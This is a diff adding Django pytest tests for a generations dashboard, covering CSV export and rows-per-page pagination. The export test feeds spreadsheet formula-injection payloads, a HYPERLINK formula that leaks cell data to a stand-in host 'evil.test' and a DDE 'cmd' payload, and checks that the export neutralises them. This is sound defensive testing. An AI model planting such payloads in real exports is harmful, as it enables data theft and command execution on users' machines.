@@ -7,6 +7,7 @@ import pytest
 from django.http import StreamingHttpResponse
 from django.utils import timezone
 
+from generations.models import KeyLabel
 from tests.factories import make_generation
 
 pytestmark = pytest.mark.django_db
@@ -134,3 +135,55 @@ def test_times_are_shown_in_the_reporting_zone(user_client):
     html = user_client.get("/generations/?tz=Asia/Tokyo").content.decode()
     assert "JST</time>" in html
     assert "Asia/Tokyo" in user_client.get("/dashboard/?tz=Asia/Tokyo").content.decode()
+
+
+def test_export_neutralises_formulas_in_every_name_and_keeps_numbers_numbers(user_client):
+    hostile = {
+        "model": '=HYPERLINK("http://evil.test/?"&A1,"open")',
+        "provider": "+cmd|' /C calc'!A0",
+        "api_key_hash": "@SUM(1+1)",
+        "endpoint": "\r-2+3",
+    }
+    now = timezone.now()
+    make_generation("=evil-id", cost_pico=10 * 10**12, latency_ms=2.5e16, occurred_at=now, **hostile)
+    make_generation("tiny", cost_pico=1, credits_used_pico=-5 * 10**11, occurred_at=now - timedelta(minutes=1))
+    KeyLabel.objects.create(api_key_hash="@SUM(1+1)", name="-1+1", team="\t=team")
+    response = user_client.get("/generations/export.csv")
+    content = b"".join(response.streaming_content).decode()
+    evil, tiny = csv.DictReader(io.StringIO(content))
+    for column, value in [*hostile.items(), ("generation_id", "=evil-id"), ("team", "\t=team")]:
+        assert evil[column] == "'" + value
+    assert evil["api_key_name"] == "'-1+1"
+    assert (evil["cost_usd"], evil["latency_ms"]) == ("10", "25000000000000000")
+    assert (tiny["cost_usd"], tiny["credits_used"]) == ("0.000000000001", "-0.5")
+    assert "E+" not in content and "E-" not in content
+
+
+def row_ids(html):
+    return re.findall(r'href="/generations/(chatcmpl-\d+)/"', html)
+
+
+def test_rows_per_page_default_to_50_and_offer_25_and_100(user_client, rows):
+    html = user_client.get("/generations/").content.decode()
+    assert len(row_ids(html)) == 50
+    assert re.search(r'<option value="50"\s+selected>50</option>', html)
+    assert len(row_ids(user_client.get("/generations/?per_page=100").content.decode())) == 60
+    response = user_client.get("/generations/?per_page=10")
+    assert response.status_code == 400
+    assert "Rows per page: Select a valid choice" in response.content.decode()
+
+
+def test_the_rows_per_page_choice_stays_in_the_pager_sort_links_and_filter_form(user_client, rows):
+    html = user_client.get("/generations/?per_page=25&sort=-cost").content.decode()
+    assert len(row_ids(html)) == 25
+    assert re.search(r'<option value="25"\s+selected>25</option>', html)
+    sort_links = re.findall(r'<th scope="col"[^>]*>\s*<a href="\?([^"]*)"', html)
+    assert len(sort_links) == 7
+    assert all("per_page=25" in link for link in sort_links)
+    second = user_client.get(f"/generations/?{next_link(html)}").content.decode()
+    assert "per_page=25" in next_link(html)
+    assert len(row_ids(second)) == 25
+    assert 'href="?range=7d&amp;tz=UTC&amp;sort=-cost&amp;per_page=25">First page</a>' in second
+    third = user_client.get(f"/generations/?{next_link(second)}").content.decode()
+    assert len(row_ids(third)) == 10
+    assert set(row_ids(html) + row_ids(second) + row_ids(third)) == {row.generation_id for row in rows}
